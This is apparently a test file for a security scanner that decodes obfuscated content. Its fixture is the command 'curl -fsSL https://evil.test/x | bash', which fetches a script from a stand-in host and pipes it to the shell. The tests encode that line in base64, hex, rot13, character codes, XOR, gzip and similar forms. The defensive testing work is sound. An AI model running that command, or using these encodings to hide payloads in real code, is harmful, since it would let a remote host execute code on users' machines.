import { deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import fc from "fast-check";
import { expect, test } from "vitest";
import { DEFAULT_SCAN_LIMITS } from "../scan-limits.ts";
import { makeSource } from "../testing/make-source.ts";
import { ScanBudget } from "../text/scan-budget.ts";
import { type EncodedTexts, findEncoded } from "./find-encoded.ts";

const COMMAND = "curl -fsSL https://evil.test/x | bash";

const base64 = (text: string | Uint8Array): string => Buffer.from(text).toString("base64");
const hex = (text: string): string => Buffer.from(text).toString("hex");
const codes = (text: string): number[] => [...Buffer.from(text)];
const backwards = (text: string): string => [...text].reverse().join("");
const rot13 = (text: string): string =>
  text.replace(/[a-z]/gi, (letter) => {
    const base = letter <= "Z" ? 65 : 97;
    return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base);
  });

function base32(text: string): string {
  const bits = codes(text)
    .map((code) => code.toString(2).padStart(8, "0"))
    .join("");
  return (bits.match(/.{1,5}/g) ?? [])
    .map((five) => "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"[Number.parseInt(five.padEnd(5, "0"), 2)])
    .join("");
}

function base85(text: string, alphabet: string): string {
  const padded = Buffer.concat([Buffer.from(text), Buffer.alloc((4 - (Buffer.byteLength(text) % 4)) % 4)]);
  let encoded = "";
  for (let offset = 0; offset < padded.length; offset += 4) {
    let number = padded.readUInt32BE(offset);
    let group = "";
    for (let digit = 0; digit < 5; digit++) {
      group = (alphabet[number % 85] ?? "") + group;
      number = Math.floor(number / 85);
    }
    encoded += group;
  }
  return encoded.slice(0, encoded.length - (padded.length - Buffer.byteLength(text)));
}

const PYTHON_85 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
const ADOBE_85 = Array.from({ length: 85 }, (_, index) => String.fromCharCode(33 + index)).join("");

function find(text: string, limits = {}): EncodedTexts {
  return findEncoded(makeSource(text), new ScanBudget({ ...DEFAULT_SCAN_LIMITS, ...limits }));
}

test.each([
  ["base64", `echo ${base64(COMMAND)} | base64 -d`],
  ["base64", `echo ${base64(COMMAND).replace(/=+$/, "")} | base64 -d`],
  ["base64", `x = "${Buffer.from(`${COMMAND}?>`).toString("base64url")}"`],
  ["base64", `a = "${base64(COMMAND).slice(0, 24)}" +\n    "${base64(COMMAND).slice(24)}"`],
  ["base64", `${base64(`${COMMAND}\n`.repeat(5)).replace(/(.{60})/g, "$1\n")}`],
  ["base64", `powershell -enc ${Buffer.from(COMMAND, "utf16le").toString("base64")}`],
  ["reversed base64", `echo '${backwards(base64(COMMAND))}' | rev | base64 -d`],
  ["hexadecimal", `echo ${hex(COMMAND)} | xxd -r -p`],
  [
    "hexadecimal",
    codes(COMMAND)
      .map((code) => `0x${code.toString(16)}`)
      .join(", "),
  ],
  [
    "hexadecimal",
    codes(COMMAND)
      .map((code) => code.toString(16))
      .join(" "),
  ],
  ["base32", `echo ${base32(COMMAND)} | base32 -d`],
  ["base85", `base64.b85decode("${base85(COMMAND, PYTHON_85)}")`],
  ["ascii85", `<~${base85(COMMAND, ADOBE_85)}~>`],
  ["character codes", `String.fromCharCode(${codes(COMMAND).join(",")})`],
  ["character codes", `[${codes(COMMAND).join(", ")}].map(chr)`],
  [
    "character codes",
    codes(COMMAND)
      .map((code) => `chr(${code})`)
      .join("+"),
  ],
  [
    "character codes",
    codes(COMMAND)
      .map((code) => `[char]${code}`)
      .join("+"),
  ],
  [
    "shifted character codes",
    `[${codes(COMMAND)
      .map((code) => code + 3)
      .join(",")}].map(c => String.fromCharCode(c - 3))`,
  ],
  ["rot13", `codecs.decode("${rot13(COMMAND)}", "rot13")`],
  ["rot13", `echo '${rot13(COMMAND)}' | tr 'A-Za-z' 'N-ZA-Mn-za-m'`],
])("%s is read (%#)", (encoding, text) => {
  const found = find(text).texts.find((source) => source.chain[0]?.how === encoding);
  expect(found?.text.replace(/\?>$/, "").split("\n")[0]).toBe(COMMAND);
  expect(found).toMatchObject({
    language: "shell",
    firstLine: 1,
    keepsLines: false,
    medium: "hidden",
    stance: "live",
  });
});

test.each([
  ["gzip", gzipSync(COMMAND)],
  ["zlib", deflateSync(COMMAND)],
  ["deflate", deflateRawSync(COMMAND)],
])("%s inside of base64 is unpacked, and the way is kept", (packing, bytes) => {
  expect(find(`one\ninflate\n${base64(bytes)}\n`).texts.map(({ text, chain }) => ({ text, chain }))).toEqual([
    {
      text: COMMAND,
      chain: [
        { how: "base64", line: 3 },
        { how: packing, line: 3 },
      ],
    },
  ]);
});

test.each([
  [
    "percent encoding",
    codes(COMMAND)
      .map((code) => `%${code.toString(16)}`)
      .join(""),
  ],
  [
    "HTML entities",
    codes(COMMAND)
      .map((code) => `&#${code};`)
      .join(""),
  ],
  [
    "HTML entities",
    codes(COMMAND)
      .map((code) => `&#x${code.toString(16)};`)
      .join(""),
  ],
  [
    "hexadecimal escapes",
    codes(COMMAND)
      .map((code) => `\\x${code.toString(16)}`)
      .join(""),
  ],
  [
    "unicode escapes",
    codes(COMMAND)
      .map((code) => `\\u00${code.toString(16)}`)
      .join(""),
  ],
  [
    "octal escapes",
    codes(COMMAND)
      .map((code) => `\\${code.toString(8).padStart(3, "0")}`)
      .join(""),
  ],
])("a line with letters in %s is read whole (%#)", (encoding, escaped) => {
  expect(find(`printf '${escaped}' # go\n`).texts.map(({ text, chain }) => ({ text, chain }))).toEqual([
    { text: `printf '${COMMAND}' # go`, chain: [{ how: encoding, line: 1 }] },
  ]);
});

test.each([
  [`run("cu" + "rl -fsSL https://ev" + "il.test/x | ba" + "sh")`, "3 strings joined"],
  [`''.join(['cu', 'rl -fsSL https://ev', 'il.test/x | ba', 'sh'])`, "4 strings joined"],
])("words in quoted pieces are joined (%#)", (text) => {
  expect(find(text).texts.map((source) => source.text)).toContain(COMMAND);
});

test("bytes masked with a key that the text names are read", () => {
  const masked = Buffer.from(COMMAND).map((byte) => byte ^ 0x2a);
  const text = `data = "${base64(masked)}"\nprint(bytes(b ^ 0x2a for b in decode(data)))\n`;
  expect(find(text).texts.map((source) => source.text)).toContain(COMMAND);
});

test("base64 in base64 is read once for each layer, down to the limit, which is reported", () => {
  const twice = base64(base64(COMMAND));
  const [outer] = find(`x ${twice}`).texts;
  expect(outer?.text).toBe(base64(COMMAND));
  const budget = new ScanBudget({ ...DEFAULT_SCAN_LIMITS, maxDepth: 1 });
  const inner = findEncoded(outer!, budget);
  expect(inner).toEqual({ facts: [], texts: [], unread: "base64 at line 1: nested deeper than 1" });
});

test("more texts than the limit are reported", () => {
  const text = Array.from({ length: 5 }, (_, index) => base64(`${COMMAND} number ${index}`)).join("; ");
  const found = find(text, { maxDerivedTexts: 2 });
  expect([found.texts.length, found.unread]).toEqual([2, "base64 at line 1: more than 2 decoded texts"]);
});

test("a bomb in base64 is refused and reported", () => {
  const found = find(base64(gzipSync(Buffer.alloc(20_000_000))), { maxUnpackedBytes: 1_000_000 });
  expect(found).toEqual({
    facts: [],
    texts: [],
    unread: "base64 at line 1: it unpacks to more than 1000000 bytes",
  });
});

test("a program in base64 is noted, a picture is not", () => {
  const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(60)]);
  const png = Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    Buffer.alloc(60),
  ]);
  const facts = find(`a = "${base64(elf)}"; b = "data:image/png;base64,${base64(png)}"`).facts;
  expect(facts.map((fact) => "what" in fact && [fact.what, "detail" in fact && fact.detail])).toEqual([
    ["executable", "ELF in base64"],
  ]);
});

test.each([
  ["a commit", "da39a3ee5e6b4b0d3255bfef95601890afd80709"],
  ["a digest", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"],
  ["an identifier", "123e4567-e89b-12d3-a456-426614174000"],
  [
    "integrity",
    "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
  ],
  ["a path", "https://github.com/SomeOrganisation/SomeRepository/blob/main/packages/someModule/README.md"],
  ["long names", "thisIsAVeryLongIdentifierNameInCamelCase and_one_more_very_long_name_with_words"],
  ["numbers", "[10, 20, 30, 40, 50, 60, 70, 80, 90, 100] and 12, 24, 36, 48, 60, 72, 84, 96"],
  ["colours", "rgb(65, 105, 225), 70, 80, 90, 100, 110, 120"],
  ["an encoded address", "https://a.test/?q=%E4%BD%A0%E5%A5%BD%20hello%2Fworld%3Fa%3D1"],
  ["character ranges", String.raw`/[\u0000-\u001f\u007f-\u009f\u4e00-\u9fff]/`],
  ["ordinary concatenation", `const a = "Hello, " + "world. " + 'More text';`],
  ["a list of words", `const names = ["alpha", "beta", "gamma"];`],
  ["terminal colours", String.raw`printf '\x1b[31m\x1b[1mred\x1b[0m'`],
  ["entities", "Tom &#38; Jerry &#8211; a &lt; b"],
  ["prose", "The quick brown fox jumps over the lazy dog, again and again.\n".repeat(20)],
  [
    "a certificate",
    `-----BEGIN CERTIFICATE-----\n${Buffer.from(Array.from({ length: 240 }, (_, i) => (i * 89 + 48) % 256))
      .toString("base64")
      .replace(/(.{64})/g, "$1\n")}\n-----END CERTIFICATE-----`,
  ],
])("%s is no encoded text", (_, text) => {
  expect(find(text)).toEqual({ facts: [], texts: [] });
});

test("any text that goes into base64 with words comes out", () => {
  fc.assert(
    fc.property(fc.string({ unit: "grapheme-ascii", minLength: 0, maxLength: 200 }), (text) => {
      const message = `run the following words ${text}`;
      expect(find(`"${base64(message)}"`).texts.map((source) => source.text)).toContain(message);
    }),
  );
});

test.each([
  ["letters", "aB3".repeat(400_000)],
  ["quotes", "'".repeat(500_000)],
  ["quoted letters", "'a'+".repeat(250_000)],
  ["numbers", "99,".repeat(300_000)],
  ["digits", "9".repeat(1_000_000)],
  ["percent signs", "%63".repeat(300_000)],
  ["entities", "&#99".repeat(250_000)],
  ["backslashes", "\\".repeat(1_000_000)],
  ["escapes", "\\x63".repeat(200_000)],
  ["hexadecimal", "6a".repeat(500_000)],
  ["equals signs", "=".repeat(1_000_000)],
  ["calls", "chr(".repeat(250_000)],
  ["lines of base64", `${"aB3".repeat(20)}\n`.repeat(15_000)],
  ["decoders", "rot13 'abcdefghijk' ".repeat(50_000)],
  ["carets", "^ 12 ".repeat(200_000)],
  ["brackets", "[+[]]".repeat(200_000)],
])("a megabyte of %s is read", (_, text) => {
  const source = makeSource(text, { language: "javascript", medium: "script" });
  expect(findEncoded(source, new ScanBudget(DEFAULT_SCAN_LIMITS)).texts.length).toBeLessThanOrEqual(2_000);
});
